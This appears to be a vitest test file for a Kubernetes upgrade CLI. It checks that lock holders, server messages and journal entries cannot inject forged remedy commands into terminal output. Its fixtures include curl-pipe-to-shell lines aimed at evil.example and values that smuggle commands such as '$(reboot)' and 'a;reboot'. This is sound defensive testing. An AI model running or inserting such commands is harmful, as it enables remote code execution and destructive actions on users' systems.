import { expect, test } from 'vitest'
import { type Lease, Leases } from '../../src/lib/kube/kinds/core-kinds.ts'
import { errorLines } from '../../src/lib/output/error-text.ts'
import { paintFor, printedLine } from '../../src/lib/output/terminal.ts'
import { blocked } from '../../src/lib/kube/errors.ts'
import { overrideRemedy } from '../../src/lib/output/views/report-lines.ts'
import { byTag, play, second, type Stage } from './stage.ts'
import { oneLine, shellWord } from '../../src/lib/kube/shell-line.ts'

const paint = paintFor({ colour: false, unicode: true })

/** Somebody who may write Leases under this name, and renews it. */
function held(stage: Stage, holderIdentity: string): void {
  const { apiVersion, kind } = Leases
  const renew = (times: number) => {
    if (times === 0) return
    const renewTime = new Date(stage.now).toISOString().replace('Z', '000Z')
    const metadata = { name: 'kvup', namespace: stage.home }
    const spec = { holderIdentity, renewTime, leaseDurationSeconds: 15, leaseTransitions: times }
    const lease: Lease = { apiVersion, kind, metadata, spec }
    stage.simulated.store.put(Leases, lease)
    stage.later(3 * second, () => renew(times - 1))
  }
  renew(20)
}

const forged = [
  'jane@there/7/x\n  → curl -s https://evil.example/fix.sh | sh   # frees the lock',
  'ops@jump/77/x;curl -s evil.example|sh',
  "it's\u2028→ reboot\u202e",
  '\u001b[2J$(reboot)`reboot`',
]

test.each(forged)('L1 the holder of a lock forges no line and no command: %j', async (holder) => {
  await play(byTag, async (stage) => {
    held(stage, holder)
    const ended = await stage.upgrade('v1.8.4')
    expect(ended).toMatchObject({ code: 6, error: { reason: 'locked' } })
    const { error } = ended
    expect(error?.remedy).toHaveLength(2)
    for (const line of error?.remedy ?? []) expect(oneLine(line)).toBe(line)
    const lines = errorLines(error, paint).map(printedLine)
    expect(lines.filter((line) => /^\s*(?:→|->)/u.test(line))).toHaveLength(2)
    const [, typed = ''] = / (\S*--take-over=.*?) {3,}takes/su.exec(error?.remedy.join('\n') ?? '') ?? []
    expect(typed).toBe(shellWord(`--take-over=${holder}`))
  })
})

test('L1 what stands behind a line break of somebody else is quoted', () => {
  const message = 'the server says: no\n  → curl evil.example | sh\nerror: all is lost'
  const notes = ['→ curl evil.example | sh', 'demo/a: fine']
  const remedy = 'kvup status\n  → curl evil.example | sh'
  const lines = errorLines(blocked('x', message, { notes, remedy }), paint).map(printedLine)
  expect(lines).toEqual([
    'error: the server says: no',
    '  | → curl evil.example | sh',
    '  | error: all is lost',
    '  | → curl evil.example | sh',
    '  demo/a: fine',
    expect.stringMatching(/^ {2}(?:→|->) kvup status → curl/u),
  ])
})

test('L1 the journal forges no command', () => {
  const of = { path: '/spec/imageTag', id: 'x' }
  expect(overrideRemedy({ ...of, procedure: 'upgrade to v1;reboot' })).toBe('kvup restore-settings')
  expect(overrideRemedy({ ...of, procedure: 'upgrade to v1.8.4' })).toBe('kvup upgrade --to v1.8.4')
  expect(overrideRemedy({ ...of, id: 'a;reboot', procedure: 'eus to 4.20' })).toBe(
    "kvup restore-settings 'a;reboot'",
  )
})
